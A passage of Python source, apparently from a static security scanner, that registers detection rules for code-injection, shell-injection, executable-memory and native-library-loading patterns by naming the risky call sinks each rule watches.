    CallRule(CODE_INJECTION, _code_injection, names=_EVAL_NAMES | _COMPILE_NAMES),
    CallRule(SHELL_FORMATTED, _shell_formatted, names=_SHELL_SINKS),
    ScopeRule(SHELL_FORMATTED, re.compile(rb"\("), _wrapper_callers),
    CallRule(SHELL_VARIABLE, _shell_variable, names=_SHELL_SINKS),
    CallRule(SHELL_UNNEEDED, _shell_unneeded, names=SUBPROCESS),
    CallRule(INTERPRETER_INLINE, _interpreter_inline, names=_PROCESS_SINKS),
    CallRule(WRITABLE_CODE_PATH, _writable_code_path, names=frozenset(_PATH_LOADERS)),
    CallRule(IMPORT_FROM_INPUT, _import_from_input, names=frozenset(_CODE_LOADERS)),
    CallRule(REFLECTION_FROM_INPUT, _reflection_from_input, names=frozenset({"getattr"})),
    CallRule(
        EXECUTABLE_MEMORY,
        _executable_memory,
        names=frozenset({"mmap.mmap", "ctypes.cast"}),
        methods=frozenset(_PROTECT_INDEX) | _INJECTION_CALLS,
    ),
    CallRule(RESTRICTED_EVAL, _restricted_eval, names=_EVAL_NAMES),
    CallRule(INDIRECT_EVAL, _indirect_eval, names=frozenset(_INDIRECT_EVAL)),
    CallRule(NATIVE_LIBRARY, _native_library, names=_LIBRARY_LOADERS),
]


WARMERS.append(shell_wrappers)
